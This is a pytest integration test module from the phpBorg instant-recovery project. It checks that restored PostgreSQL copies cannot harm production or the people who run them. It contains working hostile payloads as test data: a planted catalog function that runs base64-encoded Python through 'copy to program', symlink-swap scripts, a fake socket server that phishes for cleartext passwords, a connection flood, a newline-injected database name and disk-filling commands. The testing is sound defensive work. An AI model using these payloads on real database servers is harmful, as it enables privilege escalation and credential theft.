# Copyright (c) 2026, phpBorg contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks from inside the copy on those who start, watch and use it, beside a production that they aim at.

The first attackers are functions in the archive's catalogs, which run before anybody can connect; the others are a
superuser of the session. Each attack is tried on a session of root's, and on one of an ordinary user: the very one to
whom production belongs, since nobody's rights are more.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import pwd
import shutil
import signal
import socket
import struct
import subprocess
import threading
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from ansible_collections.phpborg.instant_recovery.plugins.module_utils._host.disk import session_usage
from ansible_collections.phpborg.instant_recovery.plugins.module_utils._host.processes import identify
from ansible_collections.phpborg.instant_recovery.plugins.module_utils._postgresql import server
from ansible_collections.phpborg.instant_recovery.plugins.module_utils._postgresql.cluster import read_data_directory
from ansible_collections.phpborg.instant_recovery.plugins.modules import session_info
from psycopg2 import OperationalError

from instant_recovery import Session as ApiSession
from tests.integration.conftest import needs_root
from tests.support.cluster import QUIET, Cluster, server_directory
from tests.support.copies import Copy
from tests.support.host import free_port, processes_below
from tests.support.modules import call

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

pytestmark = [needs_root, pytest.mark.xdist_group("attacks")]

PATIENCE = 30.0  # seconds

# Runs PROGRAM with the data directory and the process of the backend as its arguments, in the single-user run alone.
CATALOG = """
set allow_system_table_mods = on;
create function pg_catalog.evil() returns boolean language plpgsql as $function$
declare data text := pg_catalog.current_setting('data_directory');
begin
    if pg_catalog.current_setting('cluster_name') <> '' then
        execute pg_catalog.format('copy (select 1) to program %L', pg_catalog.format(
            'cd /; echo {program} | base64 -d > %s/evil.py; '
            'setsid python3 -I -S %s/evil.py %s %s <&- >&- 2>&- & sleep 0.3',
            data, data, data, pg_catalog.pg_backend_pid()));
    end if;
    return true;
end $function$;
do $body$ begin
    execute 'create or replace view pg_catalog.pg_roles as '
        || pg_catalog.rtrim(pg_catalog.pg_get_viewdef('pg_catalog.pg_roles'::regclass), ';')
        || ' where pg_catalog.evil()';
end $body$;
"""
# Puts a link to TARGET in the place of the data directory: at once, or when the backend has ended.
SWAP = """
import ctypes, os, sys
data, pid = sys.argv[1], sys.argv[2]
os.symlink(TARGET, data + ".link")
open(data + "/was-here", "w").close()
def ended():
    try:
        return open(f"/proc/{pid}/stat", "rb").read().rpartition(b")")[2].split()[0] in (b"Z", b"X")
    except OSError:
        return True
while LATER and not ended():
    pass
ctypes.CDLL(None).renameat2(-100, os.fsencode(data), -100, os.fsencode(data + ".link"), 2)
"""


@dataclass
class Production:
    """A cluster at work, which must stay as it is."""

    cluster: Cluster
    state: dict[str, str] = field(default_factory=dict)

    def look(self) -> dict[str, str]:
        """Checksum of every file, which process it is and since when."""
        files = (path for path in self.cluster.data.rglob("*") if path.is_file())
        state = {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}
        started = self.cluster.sql("select pg_postmaster_start_time()", database="postgres")
        return {**state, "started": started, "pid": str(self.cluster.pid)}


@pytest.fixture(scope="module")
def running(shared_place: Path) -> Iterator[Cluster]:
    """Its log is outside of its data: a look is noted there."""
    with Cluster(directory=shared_place / "attacked-production", settings=QUIET) as cluster:
        cluster.sql("create table t as select generate_series(1, 100) id; checkpoint", database="postgres")
        yield cluster


@pytest.fixture
def production(running: Cluster) -> Iterator[Production]:
    """Fails the test in which it changes."""
    production = Production(running)
    before = production.look()
    yield production
    assert production.look() == before


@pytest.fixture(scope="module")
def clean(shared_place: Path) -> Iterator[Cluster]:
    with Cluster(directory=shared_place / "clean") as cluster:
        cluster.sql("create table t as select generate_series(1, 100) id", database="postgres")
        cluster.stop()
        yield cluster


@pytest.fixture
def archived(place: Path, clean: Cluster) -> Iterator[Callable[..., Cluster]]:
    """Makes clusters that somebody has prepared with SQL before they were archived."""
    made: list[Cluster] = []

    def make(statement: str, *, database: str = "postgres", drop: str | None = None) -> Cluster:
        cluster = Cluster(directory=place / f"archived{len(made)}")
        made.append(cluster)
        cluster.run.mkdir(parents=True)
        subprocess.run(["cp", "-a", str(clean.data), str(cluster.data)], check=True)
        for path in (cluster.directory, cluster.run):
            shutil.chown(path, "postgres")
        with (cluster.data / "postgresql.auto.conf").open("a") as file:
            file.write(f"unix_socket_directories = '{cluster.run}'\n")
        cluster.start()
        cluster.sql(statement, database=database)
        if drop is not None:
            cluster.sql(f'drop database "{drop}"', database=database)
        cluster.stop()
        return cluster

    yield make
    for cluster in made:
        cluster.close()


@pytest.fixture(params=["root", "postgres"], ids=["root", "owner-of-production"])
def session(request: pytest.FixtureRequest) -> Iterator[Callable[[Cluster], Copy]]:
    """Makes sessions of one of the two; each must leave nothing when it is ended."""
    home = Path(f"/srv/ir-attacks-{os.getpid()}")
    made: list[Copy] = []
    home.mkdir(mode=0o711)

    def make(cluster: Cluster) -> Copy:
        caller = None if request.param == "root" else request.param
        made.append(Copy.of(cluster, home / f"sessions{len(made)}", caller=caller))
        return made[-1]

    try:
        yield make
        for copy in made:
            if copy.directory.exists():
                assert copy.end() == []
            assert not copy.directory.exists()
        assert processes_below(home) == []
    finally:
        shutil.rmtree(home)


def hostile(program: str) -> str:
    return CATALOG.format(program=base64.b64encode(program.encode()).decode())


def info(copy: Copy) -> dict[str, Any]:
    """What is told of the session, for which its server is asked."""
    root = str(copy.directory.parent)
    (found,) = copy.as_caller(lambda: call(session_info.main, session_root=root))["sessions"]
    told: dict[str, Any] = found
    return told


def printed_client(result: dict[str, Any], statement: str) -> str:
    """What the printed line says to whoever types it: here root, whoever the session belongs to."""
    argv = [f"{result['bindir']}/psql", "-X", "-w", "-A", "-t", "-c", statement, "service=instant_recovery"]
    environment = {"PATH": "/usr/bin:/bin", "PGSERVICEFILE": result["client_file"]}
    done = subprocess.run(argv, env=environment, capture_output=True, text=True, check=True, timeout=60)
    return done.stdout.strip()


@dataclass
class Listener:
    """Somebody who pretends to be the server, and keeps what he was told."""

    address: tuple[str, int]
    heard: list[bytes] = field(default_factory=list)

    @contextmanager
    def listening(self) -> Iterator[Listener]:
        with socket.create_server(self.address) as server:
            server.settimeout(0.1)
            done = threading.Event()

            def serve() -> None:
                while not done.is_set():
                    try:
                        client, _address = server.accept()
                    except TimeoutError:
                        continue
                    with client:
                        client.settimeout(5)
                        self.heard.append(client.recv(1000))
                        client.sendall(b"R\0\0\0\x08\0\0\0\x03")  # tell me your password in clear
                        self.heard.append(client.recv(1000))

            thread = threading.Thread(target=serve)
            thread.start()
            try:
                yield self
            finally:
                done.set()
                thread.join()


# -- code in the archive's catalogs


@pytest.mark.parametrize("later", [False, True], ids=["at-once", "after-the-run"])
def test_a_data_directory_that_becomes_a_link_to_productions(
    later: bool,
    production: Production,
    archived: Callable[..., Cluster],
    session: Callable[[Cluster], Copy],
) -> None:
    program = SWAP.replace("TARGET", repr(str(production.cluster.data))).replace("LATER", str(later))
    copy = session(archived(hostile(program), database="template1"))
    result = copy.start()
    swapped, ran = copy.data.is_symlink(), copy.data.with_suffix(".link")
    assert (ran if swapped else copy.data).joinpath("was-here").exists() or ran.is_symlink(), "it was never run"
    # What is left behind of the run ends with it: the link comes in that moment, too late or never.
    assert later or swapped
    if swapped:
        assert result["failed"]
        assert "Traceback" not in result["msg"]
    else:
        assert "failed" not in result, (result["msg"], result.get("log_tail"))
        assert copy.sql("select count(*) from t") == "100"
    assert not (production.cluster.data / "instant_recovery.json").exists()


def test_a_left_out_tablespace_that_becomes_a_link_to_productions(
    place: Path,
    production: Production,
    archived: Callable[..., Cluster],
    session: Callable[[Cluster], Copy],
) -> None:
    """What recovery has put there is removed after the archive's code has run."""
    space, victim = place / "space", place / "victim"
    for path in (space, victim):
        path.mkdir(mode=0o700)
        shutil.chown(path, "postgres")
    (victim / "precious").write_text("of production")
    shutil.chown(victim / "precious", "postgres")
    program = (
        "import glob, os, sys\n"
        "for path in glob.glob(sys.argv[1] + '/instant_recovery_left_out/*'):\n"
        "    os.rename(path, path + '.aside')\n"
        f"    os.symlink({str(victim)!r}, path)\n"
        "open(sys.argv[1] + '/was-here', 'w').close()\n"
    )
    source = archived(f"create tablespace lost location '{space}'")
    source.start()
    source.sql("create table gone tablespace lost as select 1 id", database="postgres")
    source.sql(hostile(program), database="template1")
    source.stop(mode="immediate")
    copy = session(source)
    result = copy.start(missing_tablespaces="leave_out")
    assert (copy.data / "was-here").exists(), result
    assert [path for path in copy.data.glob("instant_recovery_left_out/*") if path.is_symlink()]
    assert (victim / "precious").read_text() == "of production"


def test_a_name_of_several_lines(
    production: Production, archived: Callable[..., Cluster], session: Callable[[Cluster], Copy]
) -> None:
    """It would have added an address to the file that clients connect by."""
    name = "!\nhostaddr=127.0.0.9"
    copy = session(archived(f'create database "{name}"', database="template1", drop="postgres"))
    port = free_port()
    with Listener(("127.0.0.9", port)).listening() as impostor:
        result = copy.start(port=port)
        assert "failed" not in result, (result["msg"], result.get("log_tail"))
        assert result["databases"] == [name]
        assert info(copy)["metrics"]["clients"] == 0
        assert printed_client(result, "show data_directory") == str(copy.data)
        assert (
            copy.sql(
                "select datname = E'!\\nhostaddr=127.0.0.9' from pg_database where datallowconn and not datistemplate",
                database="template1",
            )
            == "t"
        )
        assert impostor.heard == []


def test_an_archive_that_passes_for_one_that_was_prepared(
    production: Production, archived: Callable[..., Cluster], session: Callable[[Cluster], Copy]
) -> None:
    """Its ALTER SYSTEM would count after the session's configuration."""
    source = archived("alter system set work_mem = '13MB'")
    (source.data / "postgresql.auto.conf.archived").touch()
    copy = session(source)
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    assert copy.sql("show work_mem") != "13MB"
    # What the session itself sets that way is its own, and stays.
    copy.sql("alter system set work_mem = '17MB'")
    copy.stop()
    assert "failed" not in copy.start()
    assert copy.sql("show work_mem") == "17MB"


def test_more_than_a_record_can_hold(
    production: Production, archived: Callable[..., Cluster], session: Callable[[Cluster], Copy]
) -> None:
    """Nobody could read it, and so nobody could end the session."""
    long = (
        "do $$ begin execute format('alter database postgres set dynamic_library_path = %L', repeat('x', {})); end $$"
    )
    copy = session(archived(long.format(18 << 20)))
    result = copy.start()
    if "failed" in result:
        assert "find out who made this" in result["msg"], result["msg"][:300]
    assert (copy.directory / "session.json").stat().st_size < 1 << 24
    assert info(copy)["id"] == copy.directory.name


def test_a_probe_that_counts_without_end(
    production: Production, archived: Callable[..., Cluster], session: Callable[[Cluster], Copy]
) -> None:
    """Of a server that says such things nothing is known; what watches it goes on."""
    overload = (
        "create function pg_catalog.json_build_object(text, bigint, text, bigint, text, numeric, text, text)"
        " returns json"
        ' language sql as $$ select (\'{"clients": 0, "active_clients": 0, "queries": 1\' || repeat(\'0\', 400) ||'
        ' \', "traces": "x"}\')::json $$'
    )
    copy = session(archived(f"set allow_system_table_mods = on; {overload}", database="template1"))
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    for _look in range(2):
        told = info(copy)
        assert (told["status"], told["metrics"]["queries"]) == ("active", None)


# -- a superuser of the session


def test_neither_file_nor_socket_of_its_clients_can_be_exchanged(
    place: Path, production: Production, clean: Cluster, session: Callable[[Cluster], Copy]
) -> None:
    """The way to production, with the rights of root or of production's owner, would lead through them."""
    copy = session(clean)
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    evil = f"[instant_recovery]\nhost={production.cluster.run}\nport=5432\nuser={production.cluster.superuser}\n"
    before = {path.name: path.read_bytes() for path in copy.client.iterdir() if path.is_file()}
    assert set(before) == {"pgpass", "pg_service.conf"}
    for name in before:
        for path in (copy.client / name, copy.run / name, copy.directory / "config" / name):
            write = f"copy (select unnest(string_to_array('{evil}', E'\\n'))) to '{path}'"
            if path.parent == copy.run:
                copy.sql(write)  # its own directory, in which nobody looks for anything
                continue
            with pytest.raises(RuntimeError, match="could not open file"):
                copy.sql(write)
    # Its own socket can be replaced, but by nothing that leads out of where it was made.
    own, theirs = f"{copy.run}/.s.PGSQL.{result['port']}", f"{production.cluster.run}/.s.PGSQL.5432"
    assert Path(theirs).is_socket()
    copy.sql(f"copy (select 1 where false) to program 'rm {own} && ln -s {theirs} {own}'")
    assert info(copy)["metrics"]["clients"] is None
    with pytest.raises(subprocess.CalledProcessError):
        printed_client(result, "show data_directory")
    assert not list(copy.run.iterdir())
    assert {path.name: path.read_bytes() for path in copy.client.iterdir() if path.is_file()} == before


def test_neither_its_log_nor_the_directory_of_its_socket_takes_the_disk(
    clean: Cluster, session: Callable[[Cluster], Copy]
) -> None:
    copy = session(clean)
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    with pytest.raises(RuntimeError, match="child process exited"):
        copy.sql(f"copy (select 1) to program 'head -c 10M /dev/zero > {copy.run}/large'")
    with pytest.raises(RuntimeError, match="child process exited"):
        copy.sql("copy (select 1 where false) to program 'fallocate -l 1G /proc/self/fd/2'")
    log = Path(result["log"])
    copy.sql("copy (select 1 where false) to program 'head -c 400M /dev/zero >&2'")
    wait_for(lambda: log.read_bytes()[-300:].rstrip().endswith(b"and reset the session."))
    copy.sql("copy (select 1 where false) to program 'head -c 400M /dev/zero >&2'")
    assert copy.sql("select 1") == "1"
    assert session_usage(str(copy.directory)) < 257 << 20
    assert b"Nothing more is logged: 256 MiB are the most." in log.read_bytes()[-300:]


def test_who_floods_its_port_leaves_the_owner_his_socket(clean: Cluster, session: Callable[[Cluster], Copy]) -> None:
    """As any user of the host can, who needs no password to wait for being asked for one."""
    copy = session(clean)
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    body = struct.pack("!I", 3 << 16) + b"user\0instant_recovery\0database\0postgres\0\0"
    packet = struct.pack("!I", len(body) + 4) + body
    with contextlib.ExitStack() as flood:
        for _client in range(300):
            with contextlib.suppress(OSError):
                client = flood.enter_context(socket.create_connection(("127.0.0.1", result["port"]), timeout=5))
                client.sendall(packet)
        time.sleep(1)
        assert copy.sql("select 1") == "1"
        assert info(copy)["metrics"]["clients"] is not None
    assert printed_client(result, "select 2") == "2"


def test_a_start_is_stopped_although_its_server_does_not_listen(
    clean: Cluster, session: Callable[[Cluster], Copy], monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the archive runs before anybody can log in may take its time, and refuse to end."""
    copy = session(clean)
    deaf = "import signal, time; signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)); time.sleep(1500)"

    def hanging(_argv: list[str], *, room: Any, claim: Callable[[Any], None], **_options: Any) -> None:
        room.run(["/usr/bin/python3", "-I", "-S", "-c", deaf], timeout=1500, claim=claim)

    monkeypatch.setattr(server, "prepare", hanging)
    results: list[dict[str, Any]] = []
    starting = threading.Thread(target=lambda: results.append(copy.start()))
    starting.start()
    try:
        wait_for(lambda: any(claim["process"] for claim in copy.record["claims"]))
        begun = time.monotonic()
        assert copy.end() == []
        assert time.monotonic() - begun < 60
    finally:
        starting.join()
    assert "It is being stopped." in results[0]["msg"]


def test_whoever_takes_the_port_of_a_killed_server_is_told_nothing(
    production: Production, clean: Cluster, session: Callable[[Cluster], Copy]
) -> None:
    copy = session(clean)
    result = copy.start(port=free_port())
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    password = (copy.client / "pgpass").read_text()
    os.kill(result["pid"], signal.SIGKILL)
    pids = {claim["name"]: claim["process"]["pid"] for claim in copy.record["claims"]}
    wait_for(lambda: identify(pids["server"]) is None)
    with pytest.raises(OSError, match="Address already in use"):
        socket.create_server(("127.0.0.1", result["port"]))  # nobody can take it: a process keeps it
    os.kill(pids["port"], signal.SIGKILL)
    wait_for(lambda: identify(pids["port"]) is None)
    with Listener(("127.0.0.1", result["port"])).listening() as impostor:
        told = info(copy)
        assert (told["status"], told["metrics"]["clients"]) == ("orphaned", None)
        done = subprocess.run(
            [f"{result['bindir']}/psql", "-X", "-w", "-c", "select 1", "service=instant_recovery"],
            env={"PATH": "/usr/bin:/bin", "PGSERVICEFILE": result["client_file"]},
            capture_output=True,
            check=False,
            timeout=60,
        )
        assert done.returncode != 0
        assert impostor.heard == []
    again = copy.start()
    assert "failed" not in again, (again["msg"], again.get("log_tail"))
    assert (copy.client / "pgpass").read_text() != password


def test_no_command_of_ours_takes_a_word_from_the_copy(
    production: Production, clean: Cluster, session: Callable[[Cluster], Copy]
) -> None:
    """A process in its pid file, a lock, a record: whatever lies in the copy or beside the socket decides nothing."""
    copy = session(clean)
    result = copy.start()
    assert "failed" not in result, (result["msg"], result.get("log_tail"))
    pid = str(production.cluster.pid)
    claim = json.dumps({"name": "server", "kind": "process", "process": {"pid": int(pid)}})
    for path in (copy.data / "postmaster.pid", copy.data / "instant_recovery.json", copy.run / "session.json"):
        text = claim if path.suffix == ".json" else f"{pid}\\n{production.cluster.data}\\n1\\n5432"
        copy.sql(f"copy (select unnest(string_to_array(E'{text}', E'\\n'))) to '{path}' (format csv, quote '^')")
    copy.sql(f"copy (select '{pid}') to '{copy.run}/.s.PGSQL.{result['port']}.lock'")
    assert info(copy)["status"] == "orphaned" or info(copy)["metrics"]["clients"] == 0
    assert copy.stop()["changed"]
    assert pwd.getpwuid(Path(f"/proc/{pid}").stat().st_uid).pw_name == "postgres"


def wait_for(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + PATIENCE
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def snapshot(directory: Path) -> dict[str, tuple[int, int, int]]:
    """What is in a directory of the host: kind and mode, inode and owner of each path."""
    states = {path: path.lstat() for path in [directory, *directory.rglob("*")]}
    return {str(path): (state.st_mode, state.st_ino, state.st_uid) for path, state in states.items()}


@pytest.fixture
def victim(place: Path) -> Iterator[Path]:
    """A directory of the host's: production's tablespaces, say. The test fails where it changes."""
    directory = place / "victim"
    (directory / "16384" / "PG_15").mkdir(parents=True)
    (directory / "16384" / "PG_15" / "2619").write_text("production's")
    (directory / "16385").symlink_to(place)
    directory.chmod(0o700)
    before = snapshot(directory)
    yield directory
    assert snapshot(directory) == before


def with_a_tablespace(copy: Copy, oid: int) -> None:
    """Has the archive say that it has a tablespace, and where the archive has it."""
    version = read_data_directory(str(copy.data)).control.catalog_version
    (copy.tree / "there" / f"PG_{server_directory().split('/')[-2]}_{version}").mkdir(parents=True, exist_ok=True)
    (copy.data / "tablespace_map").write_text(f"{oid} /there\n")


@pytest.mark.parametrize("oid", [16384, 16385])
def test_a_directory_of_tablespaces_that_is_a_link_of_the_host(
    copy_of: Callable[..., Copy], clean: Cluster, victim: Path, oid: int
) -> None:
    """In the archive its target is there as well: so the link is re-pointed, and what is in it."""
    copy = copy_of(clean)
    (copy.data / "pg_tblspc").rmdir()
    (copy.data / "pg_tblspc").symlink_to(victim)
    place = copy.tree / str(victim).lstrip("/")
    place.mkdir(parents=True)
    with_a_tablespace(copy, oid)
    copy.own()
    result = copy.start()
    assert "failed" not in result, result["msg"]
    assert copy.sql("select count(*) from t") == "100"
    assert os.readlink(copy.data / "pg_tblspc") == str(place)
    assert os.readlink(place / str(oid)) == str(copy.tree / "there")


def test_a_directory_that_the_session_makes_a_link_of_between_two_starts(
    copy_of: Callable[..., Copy], clean: Cluster, victim: Path
) -> None:
    copy = copy_of(clean)
    assert "failed" not in copy.start()
    copy.stop()
    for name in ("pg_tblspc", "pg_logical"):
        shutil.rmtree(copy.data / name)
        (copy.data / name).symlink_to(victim)
    with_a_tablespace(copy, 16384)
    copy.own()
    result = copy.start()
    assert result["failed"]
    assert "which leads out of the copy to files that belong to this host" in result["msg"]


def test_a_link_in_the_place_of_what_is_made_for_tablespaces_that_are_left_out(
    copy_of: Callable[..., Copy], clean: Cluster, victim: Path
) -> None:
    copy = copy_of(clean)
    (copy.data / "instant_recovery_left_out").symlink_to(victim)
    (copy.tree / str(victim).lstrip("/")).mkdir(parents=True)
    (copy.data / "tablespace_map").write_text("16384 /nowhere\n")
    copy.own()
    result = copy.start(missing_tablespaces="leave_out")
    assert "failed" not in result, result["msg"]
    assert copy.sql("select count(*) from t") == "100"
    assert not (copy.data / "instant_recovery_left_out").is_symlink()


# Puts a link in the place of the archived WAL's directory, and asks whoever serves it for a segment.
ASK_FOR_WAL = """
import os, sys
data = sys.argv[1]
wal = os.path.join(os.path.dirname(data), "archived-wal")
os.rename(wal, wal + ".aside")
os.symlink({victim!r}, wal)
config = data.partition("/merged/")[0] + "/config/"
question = os.open(config + "wal.ask", os.O_WRONLY)
os.write(question, b"{segment}\\n")
got = open(config + "wal.answer", "rb", buffering=0).readall()
open(data + "/stolen", "wb").write(got)
"""


def test_archived_wal_that_becomes_a_link_to_productions(
    copy_of: Callable[..., Copy], archived: Callable[..., Cluster], clean: Cluster, victim: Path
) -> None:
    segment = "0000000100000000000000F0"
    identifier = (clean.data / "global" / "pg_control").read_bytes()[:8]
    (victim / "16384" / segment).write_bytes(bytes(24) + identifier + bytes((16 << 20) - 32))
    cluster = archived(
        hostile(ASK_FOR_WAL.format(victim=str(victim / "16384"), segment=segment)).replace("sleep 0.3", "sleep 20"),
        database="template1",
    )
    copy = copy_of(cluster)
    wal = copy.data.parent / "archived-wal"
    wal.mkdir()
    (wal / segment).write_bytes(b"")
    copy.own()
    copy.start(log_source=str(wal))
    assert (wal.parent / "archived-wal.aside").is_dir(), "the attack did not happen"
    assert (copy.data / "stolen").read_bytes() == b""
    (victim / "16384" / segment).unlink()


# Listens in the place of the server, and wants to be told a password.
ASK_FOR_A_PASSWORD = """
import os, socket, struct, sys
path, told = sys.argv[1:]
os.unlink(path)
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen()
while True:
    client, _ = server.accept()
    size = struct.unpack("!I", client.recv(4))[0]
    client.recv(size - 4)
    client.sendall(b"R" + struct.pack("!II", 8, 3))
    with open(told, "ab") as file:
        file.write(b"asked:" + client.recv(1000))
    client.close()
"""


def test_passwords_of_other_servers_are_not_told(
    clean: Cluster, copy_of: Callable[..., Copy], place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server's own socket lies where the server can put another one."""
    copy = copy_of(clean)
    result = copy.start()
    program = base64.b64encode(ASK_FOR_A_PASSWORD.encode()).decode()
    begin = f"echo {program} | base64 -d > {copy.data}/ask.py; setsid python3 -I -S {copy.data}/ask.py"
    own = f"{copy.run}/.s.PGSQL.{result['port']}"
    copy.sql(f"copy (select 1) to program '{begin} {own} {copy.data}/told >/dev/null 2>&1 & sleep 1'")
    (place / ".pgpass").write_text("*:*:*:*:production's\n")
    (place / ".pgpass").chmod(0o600)
    line = ["psql", "-X", "-w", "-c", "select 1", "service=instant_recovery"]
    environment = {"PATH": "/usr/bin:/bin", "PGSERVICEFILE": result["client_file"], "HOME": str(place)}
    secrets: tuple[dict[str, str], ...] = ({"PGPASSWORD": "production's"}, {})
    for secret in secrets:
        done = subprocess.run(line, env={**environment, **secret}, capture_output=True, check=False, timeout=60)
        assert done.returncode == 2, done
        for name, value in {"HOME": str(place), **secret}.items():
            monkeypatch.setenv(name, value)
        with pytest.raises(OperationalError):
            ApiSession.from_record({**copy.record, **copy.record["server"]}).connect()
        monkeypatch.delenv("PGPASSWORD", raising=False)
    told = (copy.data / "told").read_bytes()
    assert told.count(b"asked:") >= 2
    assert b"production's" not in told
